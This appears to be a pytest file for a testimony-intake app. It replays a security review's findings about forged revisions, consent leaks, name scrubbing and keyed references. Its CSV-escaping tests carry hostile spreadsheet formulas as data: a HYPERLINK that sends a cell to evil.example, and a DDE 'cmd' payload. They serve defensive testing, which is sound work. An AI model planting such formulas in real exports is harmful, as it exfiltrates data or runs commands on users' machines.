"""Issue 23, "Consent that holds": each finding's attack replayed on a real HQ vault, through the one export pipeline.

Each test reproduces the finding as the review played it (forged or backdated revisions are written straight into the
vault, as a hostile laptop's bundle would bring them) and checks the refusal or the safe result. Run against the code
before the fix, each of them fails (the note for issue 23 lists how this was checked).
"""

from __future__ import annotations

import copy
import csv
import io
import json
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from intake_app.errors import UsageError
from intake_app.exports import pipeline
from intake_app.exports.base import ExportRequest
from intake_app.exports.consent import ConsentRefused
from intake_app.exports.settings import Organisation
from intake_app.records import conflicts, interchange, revisions
from intake_app.records.store import RecordStore, search_fields, summarise
from intake_app.vault.database import Transaction
from intake_app.vault.vault import Vault
from tests.exports.conftest import PASSPHRASE, TID_A, VICTIM, make_testimony

DEV_A = "A" * 16  # enrolled first: the forger
DEV_B = "B" * 16  # the laptop that really recorded the testimony
ORG = Organisation(name="TJWG", contact="cases@example.org")


@pytest.fixture
def vault(tmp_path: Path) -> Iterator[Vault]:
    v, _ = Vault.create(tmp_path / "hq", PASSPHRASE, "hq")
    with Transaction(v.conn):
        for key, at in ((DEV_A, "2024-01-01T00:00:00Z"), (DEV_B, "2024-02-01T00:00:00Z")):
            v.conn.execute("INSERT INTO devices (key_id, name, public_key, enrolled_at) VALUES (?, ?, ?, ?)",
                           (key, f"laptop {key[0]}", bytes(32), at))
    yield v
    v.lock()


def forge(vault: Vault, record_id: str, parents: list[str], device: str, at: str, doc: dict[str, Any] | None) -> str:
    """A revision as a bundle brings it: any device, any parents, any claimed time."""
    content = b"" if doc is None else interchange.dumps_canonical(interchange.validate({**doc, "id": record_id}))
    rev = revisions.Revision.make(record_id, parents, device, at, content, tombstone=doc is None)
    with Transaction(vault.conn):
        revisions.insert_revision(vault.conn, rev)
        revisions.refresh_record(vault.conn, record_id, summarise, search_fields)
    return rev.id


def own(vault: Vault) -> str:
    return vault.signing_key().public_key.key_id_hex


def export(vault: Vault, fmt: str, purpose: str, mentions: list[str], out: Path, **options: Any) -> dict[str, str]:
    """Run one export through the pipeline; every file's text (ZIP members expanded), by name."""
    person_of = options.pop("person_of", {})
    subject = options.pop("subject", mentions[0] if fmt == "wgeid" else "archive")
    result = pipeline.run_export(vault, ExportRequest(
        format=fmt, purpose=purpose, mentions=tuple(mentions), out_dir=out, subject=subject, allow_incomplete=True,
        accept_conditions=options.pop("accept_conditions", False), person_of=person_of,
        options={"organisation": ORG, **options}))
    texts: dict[str, str] = {}
    for f in result.files:
        data = f.path.read_bytes()
        if f.name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                texts.update({f"{f.name}/{n}": zf.read(n).decode("utf-8") for n in zf.namelist()})
        elif not f.name.endswith(".pdf"):
            texts[f.name] = data.decode("utf-8")
    return texts


def victim(vid: str, hangul: str, roman: str, **extra: Any) -> dict[str, Any]:
    v = copy.deepcopy(VICTIM)
    v.update(id=vid, names=[{"hangul": hangul, "roman": roman}], **extra)
    return v


# ---- finding 1: exports read HQ's current version; a disputed record is refused ------------------------------------
def test_f1_forged_first_version_is_never_exported(vault: Vault, tmp_path: Path) -> None:
    grant = {"wgeid": {"value": "granted", "anonymity": "full_name", "date": "2024-05-02"}}
    genuine = make_testimony(TID_A, grant, victim=victim("v1", "류은별", "Ryu Un-byol"))
    forged = make_testimony(TID_A, grant, victim=victim("v1", "위조된이름", "FORGED-VICTIM",
                                                         acts=[{"type": "arrest", "date": "2011-09",
                                                                "place": "FORGED-PLACE"}]))
    b_rev = forge(vault, TID_A, [], DEV_B, "2024-06-01T00:00:00Z", genuine)
    forge(vault, TID_A, [], DEV_A, "2024-06-02T00:00:00Z", forged)  # later claimed time, enrolled earlier
    with pytest.raises(ConsentRefused, match="dispute"):
        export(vault, "wgeid", "wgeid", [f"{TID_A}/v1"], tmp_path / "o1")
    with Transaction(vault.conn):  # `keys revoke A`: HQ then shows B's version as current
        vault.conn.execute("UPDATE devices SET revoked_at = '2024-07-01T00:00:00Z' WHERE key_id = ?", (DEV_A,))
        revisions.refresh_record(vault.conn, TID_A, summarise, search_fields)
    assert RecordStore(vault).current_revision(TID_A) == b_rev
    with pytest.raises(ConsentRefused, match="dispute"):
        export(vault, "wgeid", "wgeid", [f"{TID_A}/v1"], tmp_path / "o2")
    assert not (tmp_path / "o1").exists() and not (tmp_path / "o2").exists()
    conflicts.resolve(vault, TID_A, take=b_rev)  # the coordinator decides
    texts = export(vault, "wgeid", "wgeid", [f"{TID_A}/v1"], tmp_path / "o3")
    everything = "".join(texts.values())
    assert "Ryu Un-byol" in everything
    assert "FORGED" not in everything and "위조된이름" not in everything


# ---- finding 2: every name of every person of the testimony is scrubbed, whatever its spelling ----------------------
SIBLINGS_NOTE = "동생 류은철 (Ryu Un-chol)와 함께; 류 은 별, 은 별, 류\u200b은별, R-y-u U-n-b-y-o-l, RYU UNCHOL"


def _siblings(consent: dict[str, Any]) -> dict[str, Any]:
    doc = make_testimony(TID_A, consent)
    first = victim("v1", "류은별", "Ryu Un-byol")
    second = victim("v2", "류은철", "Ryu Un-chol")
    second["acts"][0]["id"], second["acts"][1]["id"], second["acts"][1]["follows"] = "b1", "b2", "b1"
    for v in (first, second):
        v["steps_taken"] = [{"action": SIBLINGS_NOTE, "body": "대한적십자사"}]
        v["acts"][0]["place"] = "Hyesan, " + SIBLINGS_NOTE
        v["acts"][0]["perpetrators"][0]["description"] = SIBLINGS_NOTE
    doc["victims"] = [first, second]
    return doc


FORMS = ("류은별", "류은철", "은별", "은철", "ryuunbyol", "ryuunchol", "unbyol", "unchol")


def skeleton(text: str) -> str:
    """The test's own normalisation (independent of the product's): NFKC, case-folded, without spaces, punctuation,
    control and format characters."""
    return "".join(c for c in unicodedata.normalize("NFKC", text).casefold() if unicodedata.category(c)[0] not in "ZPC")


def _leaks(texts: dict[str, str]) -> list[str]:
    return [f"{name}: {form}" for name, text in texts.items() for form in FORMS if form in skeleton(text)]


@pytest.mark.parametrize("fmt,purpose", [("wgeid", "wgeid"), ("uwazi", "publication"),
                                         ("dossier", "government_partners")])
def test_f2_other_victims_names_and_variants_are_scrubbed(vault: Vault, tmp_path: Path, fmt: str,
                                                          purpose: str) -> None:
    level = {"value": "granted", "anonymity": "initials"}
    RecordStore(vault).save(interchange.validate(_siblings(
        {p: level for p in ("wgeid", "publication", "government_partners", "perpetrator_profiling")})))
    mentions = [f"{TID_A}/v1", f"{TID_A}/v2"]
    extra: dict[str, Any] = {}
    if fmt == "dossier":
        from intake_app.exports.dossier import DossierSubject

        extra = {"profile": DossierSubject("unit", "unit", (f"{TID_A}/v1/a1/{_perp_id(vault)}",)),
                 "subject": "온성군 보위부"}
    texts = export(vault, fmt, purpose, mentions if fmt != "wgeid" else mentions[:1], tmp_path / "o", **extra)
    assert texts and _leaks(texts) == []
    assert "ㄹㅇㅂ" in "".join(texts.values())  # the initials still leave


def _perp_id(vault: Vault) -> str:
    doc = RecordStore(vault).show(TID_A)
    return str(doc["victims"][0]["acts"][0]["perpetrators"][0]["id"])


@pytest.mark.parametrize("where", ["hangul", "roman", "hanja"])
def test_f2_names_with_invisible_characters_are_refused_at_save(vault: Vault, where: str) -> None:
    doc = make_testimony(TID_A, {})
    doc["victims"][0]["names"] = [{where: "류\u200b은별" if where != "roman" else "Ryu\u00adUn-byol"}]
    with pytest.raises(UsageError, match="invisible format character"):
        RecordStore(vault).save(interchange.validate(doc))
    assert vault.conn.execute("SELECT count(*) FROM revisions").fetchone()[0] == 0


# ---- finding 3: the conditions' words never leave ---------------------------------------------------------------
@pytest.mark.parametrize("fmt,purpose", [("wgeid", "wgeid"), ("uwazi", "publication"),
                                         ("dossier", "government_partners")])
def test_f3_conditions_text_never_leaves(vault: Vault, tmp_path: Path, fmt: str, purpose: str) -> None:
    cond = {"value": "conditional", "anonymity": "initials",
            "conditions": "call my phone 010-9876-5432 first; do not name 류은별"}
    RecordStore(vault).save(interchange.validate(make_testimony(
        TID_A, {p: cond for p in ("wgeid", "publication", "government_partners", "perpetrator_profiling")})))
    extra: dict[str, Any] = {"accept_conditions": True}
    if fmt == "dossier":
        from intake_app.exports.dossier import DossierSubject

        extra |= {"profile": DossierSubject("unit", "unit", (f"{TID_A}/v1/a1/{_perp_id(vault)}",)),
                  "subject": "온성군 보위부"}
    texts = export(vault, fmt, purpose, [f"{TID_A}/v1"], tmp_path / "o", **extra)
    everything = "".join(texts.values())
    for needle in ("9876", "010-", "call my phone", "류은별"):
        assert needle not in everything, needle
    if fmt != "uwazi":
        doc = json.loads(next(t for n, t in texts.items() if n.endswith(".json")))
        consent = doc["sources"][0]["consent"]
        basis = consent[0] if isinstance(consent, list) else consent[purpose][0]
        assert basis["conditions"] is True and basis["conditions_acknowledged"] is True


# ---- finding 4: withdrawal and grant ordered by ancestry; future-dated decisions refused ----------------------------
def test_f4_backdated_withdrawal_then_restored_grant_is_refused(vault: Vault, tmp_path: Path) -> None:
    grant = make_testimony(TID_A, {"wgeid": {"value": "granted", "anonymity": "full_name", "date": "2024-05-02"}})
    withdrawn = make_testimony(TID_A, {"wgeid": "withdrawn"})
    r1 = forge(vault, TID_A, [], own(vault), "2024-05-02T10:00:00Z", grant)
    r2 = forge(vault, TID_A, [r1], own(vault), "2019-01-01T00:00:00Z", withdrawn)  # the laptop clock said 2019
    forge(vault, TID_A, [r2], own(vault), "2019-01-02T00:00:00Z", grant)  # the old version restored
    with pytest.raises(ConsentRefused, match="withdrawn"):
        export(vault, "wgeid", "wgeid", [f"{TID_A}/v1"], tmp_path / "o")
    assert not (tmp_path / "o").exists()


def test_f4_far_future_grant_is_refused_at_save(vault: Vault) -> None:
    store = RecordStore(vault)
    store.save(interchange.validate(make_testimony(TID_A, {"wgeid": "withdrawn"})))
    doc = make_testimony(TID_A, {"wgeid": {"value": "granted", "anonymity": "full_name", "date": "2099-12-31"}})
    with pytest.raises(UsageError, match="dated after the day it was saved"):
        store.save(interchange.validate(doc))
    assert len(store.history(TID_A)) == 1


def test_f4_future_dated_decision_check() -> None:
    t = interchange.validate(make_testimony(TID_A, {"wgeid": {"value": "granted", "date": "2024-05-03"}}))
    interchange.check_decision_dates(t, "2024-05-02T23:00:00Z")  # one day of slack (time zones)
    with pytest.raises(UsageError, match=r"consent\.wgeid\.date"):
        interchange.check_decision_dates(t, "2024-05-01T23:00:00Z")


# ---- finding 5: references cannot join an anonymous row to a named one ------------------------------------------
def test_f5_references_differ_by_purpose_and_level_and_need_hq_key(vault: Vault, tmp_path: Path) -> None:
    RecordStore(vault).save(interchange.validate(make_testimony(TID_A, {
        "wgeid": {"value": "granted", "anonymity": "full_name"},
        "publication": {"value": "granted", "anonymity": "anonymised"},
        "government_partners": {"value": "granted", "anonymity": "pseudonym"},
        "perpetrator_profiling": {"value": "granted", "anonymity": "pseudonym"}})))
    mention = f"{TID_A}/v1"
    wgeid = json.loads(next(t for n, t in export(vault, "wgeid", "wgeid", [mention], tmp_path / "w").items()
                            if n.endswith(".json")))
    uwazi = export(vault, "uwazi", "publication", [mention], tmp_path / "u")
    rows = list(csv.DictReader(io.StringIO(uwazi["victims.zip/import.csv"])))
    public_ref = rows[0]["our_id__en"]
    assert public_ref.startswith("P-") and wgeid["case_reference"].startswith("P-")
    assert public_ref != wgeid["case_reference"]
    everything_public = "".join(uwazi.values())
    assert wgeid["case_reference"] not in everything_public and public_ref not in json.dumps(wgeid)
    # stable for the same purpose and level (a second export is recognisable) …
    again = export(vault, "uwazi", "publication", [mention], tmp_path / "u2")
    assert next(iter(csv.DictReader(io.StringIO(again["victims.zip/import.csv"]))))["our_id__en"] == public_ref
    # … and not computable from our ids without HQ's key (the old, unkeyed derivation gave the same code everywhere)
    import hashlib
    unkeyed = "P-" + hashlib.sha256(b"testimony-intake person pseudonym\x00" + mention.encode()).hexdigest()[:8]
    assert not public_ref.startswith(unkeyed) and unkeyed not in json.dumps(wgeid)
    from intake_app.exports import anonymity, references

    key = references.key(vault)
    assert public_ref == anonymity.reference(key, "publication", "anonymised", mention)
    assert key.hex() not in everything_public + json.dumps(wgeid)


# ---- finding 6: every CSV cell is escaped ------------------------------------------------------------------------
def test_f6_uwazi_cells_cannot_be_formulas(vault: Vault, tmp_path: Path) -> None:
    v = victim("v1", "류은별", "Ryu Un-byol")
    v["acts"][0]["place"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    v["acts"][0]["date_text"] = "+1 day"
    v["acts"][0]["perpetrators"][0]["unit"] = "@SUM(1,2)"
    v["acts"][0]["perpetrators"][0]["rank"] = "-2+3"
    RecordStore(vault).save(interchange.validate(make_testimony(
        TID_A, {"publication": {"value": "granted", "anonymity": "full_name"}}, victim=v)))
    texts = export(vault, "uwazi", "publication", [f"{TID_A}/v1"], tmp_path / "o")
    named = [(name, c) for name, text in texts.items() if name.endswith(".csv")
             for row in csv.reader(io.StringIO(text)) for c in row]
    cells = [c for _, c in named]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'@SUM(1,2)" in cells

    def formula(c: str) -> bool:
        return c[:1] in ("=", "+", "-", "@")

    # A thesaurus's '-' nesting marker is Uwazi syntax; the label after it is escaped like any cell.
    assert not [c for name, c in named
                if formula(c) and not ("thesaurus-" in name and c.startswith("-") and not formula(c[1:]))]


# ---- finding 4 at import: a laptop's bundle cannot bring what a save refuses ------------------------------
def test_f4_import_refuses_a_future_dated_decision(tmp_path: Path) -> None:
    """(A name with an invisible character cannot reach a bundle: the importer's interchange.validate refuses it as
    the save does, and the laptop's own vault already refuses to hold it.)"""
    from intake_app.bundles.export import export_bundle
    from intake_app.bundles.importer import Importer
    from tests.bundles.test_merge_properties import connect, create_vault

    hq, field = create_vault(tmp_path / "hq", "hq"), create_vault(tmp_path / "field")
    device = connect(field, hq, "laptop-1")
    doc = make_testimony(TID_A, {"wgeid": {"value": "granted", "anonymity": "full_name", "date": "2024-05-02"}})
    doc["consent"]["wgeid"]["date"] = "2099-12-31"  # saved by a laptop whose clock says 2100
    at = "2100-01-01T00:00:00Z"
    # what a modified laptop writes into its own vault, bypassing its own save checks
    content = json.dumps({**doc, "id": TID_A}, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode()
    rev = revisions.Revision.make(TID_A, [], device, at, content)
    with Transaction(field.conn):
        revisions.insert_revision(field.conn, rev)
        revisions.refresh_record(field.conn, TID_A, summarise, search_fields)
    (tmp_path / "usb").mkdir()
    try:
        bundle = export_bundle(field, tmp_path / "usb").path
        outcome = Importer(hq).import_file(bundle)
        assert outcome.status == "refused" and "dated after the day it was saved" in str(outcome.reason)
        assert hq.conn.execute("SELECT count(*) FROM revisions").fetchone()[0] == 0
    finally:
        field.lock()
        hq.lock()


def test_f6_a_nested_thesaurus_value_keeps_uwazis_marker_and_escapes_its_label() -> None:
    """Uwazi nests a thesaurus value under the row above when it starts with '-': that marker is syntax, so it is kept,
    while the label after it is escaped like any cell (a vocabulary addition could start like a formula)."""
    from intake_app import csv_cells

    text = csv_cells.to_csv(["English"], [["North Hamgyong"], [csv_cells.nested("Onsong")],
                                          [csv_cells.nested("=cmd|' /C calc'!A0")], ["-not nested"]])
    assert text.splitlines() == ["English", "North Hamgyong", "-Onsong", "-'=cmd|' /C calc'!A0", "'-not nested"]
